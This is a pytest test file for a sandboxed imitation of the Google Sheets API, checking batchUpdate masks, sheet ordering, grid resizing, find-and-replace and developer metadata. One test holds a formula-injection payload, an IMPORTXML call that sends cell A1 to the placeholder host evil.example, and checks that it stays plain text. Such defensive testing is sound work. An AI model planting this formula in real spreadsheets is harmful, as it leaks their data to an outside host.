"""What the requests of a batchUpdate change, and what they leave."""

from __future__ import annotations

import pytest
from googleapiclient.errors import HttpError

from sandbox.google.person import Person
from tests.sandbox.google_book import Book, add_sheet, area, cells, text, texts, update_sheet

BOLD = {"textFormat": {"bold": True}}


def test_update_cells_clears_the_rest_of_its_range(book: Book) -> None:
    book.batch(texts([["a", "b"], ["c", "d"], ["e", "f"]]))
    book.batch(texts([["new"]], range=area(0, 2, 0, 2)))
    assert book.seen("'Sheet1'!A1:B3") == [["new", ""], ["", ""], ["e", "f"]]


def test_what_the_mask_does_not_list_stays(book: Book) -> None:
    fields = "userEnteredValue,userEnteredFormat.textFormat,note"
    book.batch(cells(fields, {**text("old"), "userEnteredFormat": BOLD, "note": "by a person"}))
    book.batch(texts([["new"]], range=area(0, 1, 0, 1)))
    kept = {"userEnteredFormat": BOLD, "note": "by a person"}
    assert book.sheet.cells[0][0] == text("new") | kept
    aligned = {"userEnteredFormat": {"horizontalAlignment": "LEFT", "textFormat": {}}}
    fields = "userEnteredFormat.horizontalAlignment"
    book.batch({"repeatCell": {"range": area(0, 1, 0, 1), "cell": aligned, "fields": fields}})
    assert book.sheet.cells[0][0]["userEnteredFormat"] == BOLD | {"horizontalAlignment": "LEFT"}


def test_a_string_value_is_never_a_formula_and_has_50000_characters(book: Book) -> None:
    evil = '=IMPORTXML("http://evil.example/?"&A1,"//a")'
    book.batch(texts([[evil, "x" * 50_000]]))
    assert book.sheet.cells[0] == {0: text(evil), 1: text("x" * 50_000)}


def test_a_mask_limits_what_changes_of_a_sheet(book: Book) -> None:
    changed = {"frozenRowCount": 2, "rowCount": 7}
    for fields in ("gridProperties.frozenRowCount", "gridProperties(frozenRowCount)"):
        book.batch(update_sheet(fields, title="Not masked", gridProperties=changed))
    assert book.sheet.properties["title"] == "Sheet1"
    assert book.sheet.grid == {"rowCount": 1000, "columnCount": 26, "frozenRowCount": 2}


def test_get_gives_what_the_mask_asks_for(book: Book) -> None:
    answers = {
        "properties(title,timeZone)": {"properties": {"title": "Report", "timeZone": "Etc/GMT"}},
        "sheets.properties.title,sheets(properties(index))": {
            "sheets": [{"properties": {"title": "Sheet1", "index": 0}}]
        },
        "sheets(charts,developerMetadata)": {"sheets": [{}]},
    }
    assert {fields: book.get(fields) for fields in answers} == answers


def test_bad_masks_of_get_are_refused(book: Book) -> None:
    wrong = dict.fromkeys(["sheets.propertys", "sheets(", "sheets.,title", "nothing"], 400)
    wrong |= dict.fromkeys(["*", "sheets", "sheets.data", "sheets/properties"], 501)
    said = {}
    for fields in wrong:
        with pytest.raises(HttpError) as refused:
            book.get(fields)
        said[fields] = refused.value.status_code
    assert said == wrong


def test_index_counts_positions_before_the_move(book: Book) -> None:
    book.batch(
        update_sheet("title", title="A"),
        add_sheet(title="B", sheetId=2),
        add_sheet(title="C", sheetId=3),
    )
    orders = {}
    for index in range(4):
        book.batch(update_sheet("index", sheetId=2, index=index))
        sheets = [sheet["properties"] for sheet in book.get()["sheets"]]
        assert [sheet["index"] for sheet in sheets] == [0, 1, 2]
        orders[index] = "".join(sheet["title"] for sheet in sheets)
        book.batch(update_sheet("index", sheetId=3, index=3), update_sheet("index", index=0))
    assert orders == {0: "BAC", 1: "ABC", 2: "ABC", 3: "ACB"}


def test_the_last_sheet_stays(book: Book) -> None:
    assert "remove all the visible sheets" in book.refusal({"deleteSheet": {"sheetId": 0}})
    book.batch(add_sheet(title="Other"), {"deleteSheet": {"sheetId": 0}})
    assert book.sheet.title == "Other"


def test_shrinking_the_grid_cuts_off_the_rest(book: Book) -> None:
    grid = {"rowCount": 2, "columnCount": 2}
    book.batch(
        texts([["a", "b", "c"], ["d"], ["e"]]),
        {"setBasicFilter": {"filter": {"range": area(0, 3, 0, 3)}}},
        update_sheet("gridProperties(rowCount,columnCount)", gridProperties=grid),
    )
    assert book.seen("'Sheet1'") == [["a", "b"], ["d", ""]]
    assert book.get("sheets.basicFilter")["sheets"] == [
        {"basicFilter": {"range": area(0, 2, 0, 2)}}
    ]


def test_a_text_is_replaced_only_where_it_still_stands(book: Book) -> None:
    pasted = {"coordinate": {"rowIndex": 1}, "data": "P\tA\t7\nA\t\tLA"}
    book.batch({"pasteData": pasted | {"type": "PASTE_VALUES", "delimiter": "\t"}})
    assert book.sheet.cell(1, 2) == {"userEnteredValue": {"numberValue": 7}}
    Person(book.google.state, book.id).types("Sheet1", "A3", "a")
    swap = {"find": "A", "replacement": "X", "matchCase": True, "matchEntireCell": True}
    replies = book.batch({"findReplace": swap | {"range": area(0, 9, 0, 9)}})
    assert replies[0]["findReplace"]["valuesChanged"] == 1
    assert book.seen("'Sheet1'!A2:C3") == [["P", "X", "7"], ["a", "", "LA"]]


def test_metadata_that_has_moved_is_not_found_in_its_old_place(book: Book) -> None:
    line = {"sheetId": 0, "dimension": "ROWS", "startIndex": 4, "endIndex": 5}
    given = {"metadataId": 5, "metadataKey": "end", "visibility": "DOCUMENT"}
    lookup = {"metadataId": 5, "metadataLocation": {"dimensionRange": line}}
    lookup |= {"locationMatchingStrategy": "EXACT_LOCATION"}
    filters = {"dataFilters": [{"developerMetadataLookup": lookup}], "fields": "metadataValue"}
    guard = {"updateDeveloperMetadata": filters | {"developerMetadata": {"metadataValue": "v"}}}
    given["location"] = {"dimensionRange": line}
    book.batch({"createDeveloperMetadata": {"developerMetadata": given}})
    assert book.refusal(guard) == ""
    Person(book.google.state, book.id).inserts_rows("Sheet1", before=2)
    assert "No developer metadata matches the filters" in book.refusal(texts([["a"]]), guard)
    assert book.seen("'Sheet1'!A1") == [[""]]


def test_developer_metadata_is_found_on_its_sheet(book: Book) -> None:
    mark = {"metadataKey": "week", "metadataValue": "2026-W47", "visibility": "DOCUMENT"}
    on_sheet = {"metadataId": 5, **mark, "location": {"sheetId": 0}}
    on_book = {"metadataId": 6, **mark, "location": {"spreadsheet": True}}
    book.batch(
        *({"createDeveloperMetadata": {"developerMetadata": m}} for m in (on_sheet, on_book))
    )
    lookup = {"developerMetadataLookup": {"metadataId": 5}}
    change = {"developerMetadata": {"metadataValue": "done"}, "fields": "metadataValue"}
    book.batch({"updateDeveloperMetadata": {"dataFilters": [lookup], **change}})
    found = book.get("sheets.developerMetadata,developerMetadata")
    (metadata,) = found["sheets"][0]["developerMetadata"]
    assert metadata == {**on_sheet, "metadataValue": "done", "location": {"locationType": "SHEET"}}
    location = {"locationType": "SPREADSHEET", "spreadsheet": True}
    assert found["developerMetadata"] == [{**on_book, "location": location}]
    book.batch({"deleteDeveloperMetadata": {"dataFilter": lookup}})
    assert book.get("sheets.developerMetadata")["sheets"] == [{}]
